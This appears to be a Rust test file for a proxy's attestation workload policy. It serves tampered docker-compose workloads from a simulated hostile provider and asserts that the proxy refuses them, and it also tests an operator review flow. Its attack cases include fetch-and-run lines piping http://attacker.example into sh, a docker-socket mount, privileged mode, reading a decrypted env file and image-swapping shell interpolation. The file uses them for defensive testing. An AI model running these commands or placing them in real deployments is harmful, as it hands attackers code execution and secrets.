//! The workload policy against a hostile Venice (issue 39): the simulator signs its quotes
//! with the test Intel root the proxy trusts, so only the workload decides; it serves
//! whatever compose, pre-launch script and `allowed_envs` a test gives it. Each way a
//! workload of the attacker's choosing was once reported verified is refused through `serve`
//! (nothing reaches the stand-in) and through `verify --model`; the review flow and the
//! report mode work as the docs say.

use crate::harness::*;
use serde_json::Value;
use venice_e2ee_tools::sim::aci::Layout;
use venice_e2ee_tools::sim::evidence::{model_manifest, Manifest};
use venice_e2ee_tools::sim::{AciGpu, Simulator};

const REPO: &str = "https://github.com/Dstack-TEE/private-ai-gateway.git";
const COMMIT: &str = "aa65d64c191949b8df7b1ebe210f5b8f8a8e6b99";

/// The simulator's reviewed model workload with `edit` applied to its compose file.
fn model_with(edit: impl FnOnce(&mut String)) -> Manifest {
    let mut m = model_manifest();
    edit(&mut m.docker_compose_file);
    m
}

/// The served compose with a line added under the `model` service.
fn model_service_with(lines: &str) -> Manifest {
    model_with(|c| *c = c.replacen("  model:\n", &format!("  model:\n{lines}"), 1))
}

/// The ways a hostile Venice once passed the verifier, each with the check that now refuses
/// it, as (name, layout, manifest served, GPU evidence served, check).
fn attacks() -> Vec<(&'static str, Layout, Manifest, AciGpu, &'static str)> {
    let gateway = venice_e2ee_tools::sim::aci::Gateway::manifest("127.0.0.1");
    let pinned = venice_e2ee_tools::sim::rekor::pinned(venice_e2ee_tools::sim::rekor::MODEL_IMAGE);
    vec![
        // 1. Words naming the gateway make no gateway: the reviewed model workload must still
        // prove its GPUs, and serves none.
        (
            "the gateway named in a setting",
            Layout::Aci,
            model_service_with(&format!(
                "    environment:\n      - GIT_REPO={REPO}\n      - GIT_REV={COMMIT}\n"
            )),
            AciGpu::Absent,
            "source_provenance",
        ),
        // 2. A pinned image is not a pinned program.
        (
            "an entrypoint override",
            Layout::Dstack,
            model_service_with(
                "    entrypoint: [sh, -c, 'wget -qO- http://attacker.example/x | sh']\n",
            ),
            AciGpu::Relayed,
            "workload_policy",
        ),
        (
            "the docker socket mounted",
            Layout::Dstack,
            model_service_with("    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n"),
            AciGpu::Relayed,
            "workload_policy",
        ),
        (
            "privileged",
            Layout::Dstack,
            model_service_with("    privileged: true\n"),
            AciGpu::Relayed,
            "workload_policy",
        ),
        (
            "an env_file",
            Layout::Dstack,
            model_service_with("    env_file: /dstack/.host-shared/.decrypted-env\n"),
            AciGpu::Relayed,
            "workload_policy",
        ),
        (
            "a pre-launch script",
            Layout::Dstack,
            Manifest {
                pre_launch_script: Some("#!/bin/sh\ncurl -s http://attacker.example | sh\n".into()),
                ..model_manifest()
            },
            AciGpu::Relayed,
            "workload_policy",
        ),
        // 3. Interpolation nobody controls.
        (
            "an image chosen by the shell's SHLVL",
            Layout::Dstack,
            model_with(|c| {
                *c = c.replace(
                    &format!("image: {pinned}"),
                    &format!("image: ${{SHLVL:+attacker/image}}${{SHLVL:-{pinned}}}"),
                )
            }),
            AciGpu::Relayed,
            "workload_policy",
        ),
        // 4. A commit nobody reviewed (a fork's, served under the parent's URL).
        (
            "the gateway built at another commit",
            Layout::AciAddressBound,
            Manifest {
                docker_compose_file: gateway
                    .docker_compose_file
                    .replace(COMMIT, "0123456789abcdef0123456789abcdef01234567"),
                ..gateway.clone()
            },
            AciGpu::Absent,
            "workload_policy",
        ),
    ]
}

async fn hostile(layout: Layout, served: &Manifest, gpu: AciGpu) -> Simulator {
    let s = sim().await;
    s.set_attestation_layout(layout);
    s.script(|sc| {
        sc.workload = Some(served.clone());
        sc.aci_gpu = gpu;
    });
    s
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workload_nobody_reviewed_gets_nothing_through_serve() {
    for (name, layout, served, gpu, refused_by) in attacks() {
        let p = Proxy::start(hostile(layout, &served, gpu).await, |_| {}).await;
        for stream in [false, true] {
            let r = p.post(&chat("the prompt must not leave", stream)).await;
            assert_eq!(r.status(), 503, "{name}");
            let v: Value = r.json().await.unwrap();
            assert_eq!(
                v["error"]["code"],
                format!("attestation_{refused_by}"),
                "{name}: {v}"
            );
        }
        assert!(
            p.sim.record().chats.is_empty(),
            "{name}: nothing may reach it"
        );
        let (_, v) = p.get(&format!("/attestation/{MODEL}")).await;
        let report = &v["report"];
        assert_eq!(
            check(report, refused_by)["status"],
            "fail",
            "{name}: {report}"
        );
        assert!(report["gateway"].is_null(), "{name}: no gateway");
        if layout == Layout::Aci {
            // Not a gateway: its GPUs must be proven, and none are served.
            assert_eq!(check(report, "gpu_cert_chain")["status"], "fail", "{name}");
        }
    }
}

/// Runs `verify --json --model MODEL` of the release binary against `sim`, configured as the
/// tests configure the server, from a configuration file.
fn verify_cli(sim: &Simulator) -> (bool, Value) {
    let config = config_for(sim);
    let path = std::env::temp_dir().join(format!(
        "venice-e2ee-proxy-workloads-{}-{}.yaml",
        std::process::id(),
        sim.addr.port()
    ));
    std::fs::write(&path, serde_yaml::to_string(&config).unwrap()).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_venice-e2ee-proxy"))
        .args(["verify", "--json", "--model", MODEL, "-c"])
        .arg(&path)
        .env("VENICE_API_KEY", SIM_KEY)
        .env("RUST_LOG", "off")
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&path);
    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.success(), report)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workload_nobody_reviewed_is_not_verified_by_the_cli() {
    for (name, layout, served, gpu, refused_by) in attacks() {
        let s = hostile(layout, &served, gpu).await;
        let (ok, report) = tokio::task::block_in_place(|| verify_cli(&s));
        assert!(!ok, "{name}");
        assert_eq!(report["verified"], false, "{name}");
        assert_eq!(
            check(&report, refused_by)["status"],
            "fail",
            "{name}: {report}"
        );
    }
    // The simulator's own workload, and Venice's gateway as the audit describes it, verify.
    for layout in [Layout::Dstack, Layout::AciAddressBound] {
        let s = sim().await;
        s.set_attestation_layout(layout);
        let (ok, report) = tokio::task::block_in_place(|| verify_cli(&s));
        assert!(ok, "{layout:?}: {report}");
        assert_eq!(check(&report, "workload_policy")["status"], "pass");
    }
}

/// The review flow: the report names what is unreviewed against the closest review and the
/// lines that would accept it; an operator accepts the digest seen, and the model serves.
/// A workload refused whatever the policy says cannot be accepted.
#[tokio::test(flavor = "multi_thread")]
async fn an_operator_reviews_and_accepts_a_workload() {
    let served = model_service_with("    cap_add: [NET_ADMIN]\n");
    let s = hostile(Layout::Dstack, &served, AciGpu::Relayed).await;
    let p = Proxy::start(s, |_| {}).await;
    assert_eq!(p.post(&chat("first", false)).await.status(), 503);
    let (_, v) = p.get(&format!("/attestation/{MODEL}")).await;
    let review = &v["report"]["review"];
    assert_eq!(review["status"], "unreviewed", "{v}");
    assert_eq!(review["closest"], "simulated-model");
    assert!(
        review["differences"][0]
            .as_str()
            .unwrap()
            .contains("service `model` `cap_add`"),
        "{review}"
    );
    assert!(review["policy_lines"]
        .as_str()
        .unwrap()
        .contains("NET_ADMIN"));
    let digest = review["digest"].as_str().unwrap().to_string();

    let admin = format!("http://{}", p.state.config.server.admin_listen.unwrap());
    // Without the admin token: refused (the admin token is unset in the test config).
    let r = p
        .http
        .post(format!("{admin}/admin/workloads/accept?digest={digest}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    drop(p);

    let s = hostile(Layout::Dstack, &served, AciGpu::Relayed).await;
    let mut config = config_for(&s);
    config.server.admin_token = Some(venice_e2ee_proxy::config::Secret::new("admin-secret"));
    let p = Proxy::start_with(s, config).await;
    assert_eq!(p.post(&chat("first", false)).await.status(), 503);
    let admin = format!("http://{}", p.state.config.server.admin_listen.unwrap());
    let (_, listed): (u16, Value) = {
        let r = p
            .http
            .get(format!("{admin}/admin/workloads"))
            .bearer_auth("admin-secret")
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.json().await.unwrap())
    };
    assert_eq!(listed["unreviewed"][0]["review"]["digest"], digest.as_str());
    let accept = |d: String| {
        let http = p.http.clone();
        let admin = admin.clone();
        async move {
            let r = http
                .post(format!("{admin}/admin/workloads/accept?digest={d}"))
                .bearer_auth("admin-secret")
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.json::<Value>().await.unwrap())
        }
    };
    let (status, _) = accept("00".repeat(32)).await;
    assert_eq!(status, 409, "only a digest that was seen");
    let (status, v) = accept(digest.clone()).await;
    assert_eq!(status, 200, "{v}");
    assert!(v["policy_lines"].as_str().unwrap().contains("NET_ADMIN"));
    assert_eq!(p.post(&chat("now reviewed", false)).await.status(), 200);
    let (_, v) = p.get(&format!("/attestation/{MODEL}")).await;
    assert_eq!(v["report"]["review"]["status"], "reviewed", "{v}");
    drop(p);

    // Refused whatever the policy says: nothing to accept.
    let shell = model_with(|c| {
        *c = c.replace("image: simulated/agent", "image: ${SHLVL:-simulated/agent}")
    });
    let s = hostile(Layout::Dstack, &shell, AciGpu::Relayed).await;
    let mut config = config_for(&s);
    config.server.admin_token = Some(venice_e2ee_proxy::config::Secret::new("admin-secret"));
    let p = Proxy::start_with(s, config).await;
    assert_eq!(p.post(&chat("first", false)).await.status(), 503);
    let (_, v) = p.get(&format!("/attestation/{MODEL}")).await;
    let review = &v["report"]["review"];
    assert_eq!(review["status"], "refused", "{v}");
    assert!(review["policy_lines"].is_null());
    let admin = format!("http://{}", p.state.config.server.admin_listen.unwrap());
    let r = p
        .http
        .post(format!(
            "{admin}/admin/workloads/accept?digest={}",
            review["digest"].as_str().unwrap()
        ))
        .bearer_auth("admin-secret")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 409);
    assert_eq!(p.post(&chat("still refused", false)).await.status(), 503);
    assert!(p.sim.record().chats.is_empty());
}

/// `attestation.workload_policy: report`: availability chosen over review, never silently.
#[tokio::test(flavor = "multi_thread")]
async fn report_mode_serves_with_the_verdict_said() {
    let served = model_service_with("    privileged: true\n");
    let s = hostile(Layout::Dstack, &served, AciGpu::Relayed).await;
    let p = Proxy::start(s, |c| {
        c.attestation.workload_policy =
            venice_e2ee_proxy::config::attestation::WorkloadPolicyMode::Report
    })
    .await;
    let r = p.post(&chat("served anyway", false)).await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let warning = r
        .headers()
        .get("x-venice-e2ee-trust-warning")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(warning.contains("is not reviewed"), "{warning}");
    let (_, v) = p.get(&format!("/attestation/{MODEL}")).await;
    let c = check(&v["report"], "workload_policy");
    assert_eq!(
        (c["status"].as_str(), c["enforced"].as_bool()),
        (Some("fail"), Some(false))
    );
    let admin = format!("http://{}", p.state.config.server.admin_listen.unwrap());
    let metrics = p
        .http
        .get(format!("{admin}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains(&format!(
            "venice_e2ee_proxy_workload_reviews_total{{model=\"{MODEL}\",result=\"unreviewed\"}}"
        )),
        "{metrics}"
    );
    // What no review can lift is refused in report mode too.
    let shell = model_with(|c| {
        *c = c.replace("image: simulated/agent", "image: ${SHLVL:-simulated/agent}")
    });
    p.sim.script(|sc| sc.workload = Some(shell));
    p.state.attestations.cached(MODEL).unwrap().invalidate();
    assert_eq!(p.post(&chat("refused", false)).await.status(), 503);
}
